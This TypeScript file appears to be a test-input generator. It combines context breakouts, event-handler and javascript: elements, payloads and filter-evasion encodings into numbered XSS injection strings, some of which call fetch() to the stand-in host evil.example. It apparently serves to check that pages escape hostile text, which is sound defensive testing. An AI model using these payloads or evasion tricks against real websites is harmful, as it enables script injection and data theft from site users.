const away = 'https://evil.example'

const wrappers = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'/>${text}`,
  (text: string) => `</textarea></title></style></script>${text}`,
  (text: string) => `--><![CDATA[${text}]]>`,
  (text: string) => `<svg><foreignObject>${text}</foreignObject></svg>`,
  (text: string) => `<math><mtext><table><mglyph><style><!--</style>${text}`,
  (text: string) => `<noscript><p title="</noscript>${text}">`,
  (text: string) => `[a](${text})`,
  (text: string) => `![a](x "${text}")`,
  (text: string) => `\`\`\`html\n${text}\n\`\`\``,
  (text: string) => `{{constructor.constructor('${text}')()}}`,
]

const elements = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<img src=x onerror="${code}">`,
  (code: string) => `<svg/onload=${code}>`,
  (code: string) => `<body onpageshow=${code}>`,
  (code: string) => `<details open ontoggle='${code}'>`,
  (code: string) => `<input autofocus onfocus=${code}>`,
  (code: string) => `<a href="javascript:${code}" autofocus onfocus=${code}>x</a>`,
  (code: string) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code: string) => `<object data="javascript:${code}"></object>`,
  (code: string) => `<style>@import '${away}/${code.length}.css';</style>`,
  (code: string) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code: string) => `<form action="javascript:${code}"><button autofocus>x</button></form>`,
  (code: string) => `<video><source onerror="${code}"></video>`,
  (code: string) => `<template shadowrootmode=open><script>${code}</script></template>`,
  (code: string) => `javascript:${code}`,
  (code: string) => `${away}/?${code}`,
]

const codes = ['alert(1)', 'alert`1`', `fetch('${away}')`, 'top["al"+"ert"](1)', 'location=name']

const encodings = [
  (text: string) => text,
  (text: string) =>
    text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text: string) => text.replaceAll(/[a-z]/g, (letter) => `&#${letter.codePointAt(0)};`),
  (text: string) => text.replaceAll(' ', '\t\n'),
  (text: string) => text.replaceAll(' ', '/'),
  (text: string) => text.replaceAll('<', '\u{ff1c}').replaceAll('"', '\u{2033}'),
  (text: string) => encodeURIComponent(text),
  (text: string) => `\u202e${text}\u2066`,
  (text: string) => text.replaceAll('<', '<\u200b<'),
  (text: string) => text.replaceAll('script', 'scrscriptipt'),
]

/** Calls a list's item by its place, beginning anew after the last. */
const pick = <Item>(items: Item[], at: number) => items[at % items.length] as Item

/**
 * The first `count` injection attempts among the 10,560 combinations of wrapper, element, code and encoding. Their order mixes
 * all four from the start. Each begins with its number, so that a page proves that it shows the text: `No17; <svg ...`.
 */
export function generateHostileTexts(count: number): string[] {
  const total = wrappers.length * elements.length * codes.length * encodings.length
  // A step without a common divisor with the total visits each combination once.
  const step = 4789
  return Array.from({ length: Math.min(count, total) }, (_, index) => {
    let at = (index * step) % total
    const next = <Item>(items: Item[]) => {
      const item = pick(items, at)
      at = Math.floor(at / items.length)
      return item
    }
    const wrap = next(wrappers)
    const element = next(elements)
    const encode = next(encodings)
    return `No${index}; ${encode(wrap(element(next(codes))))}`
  })
}
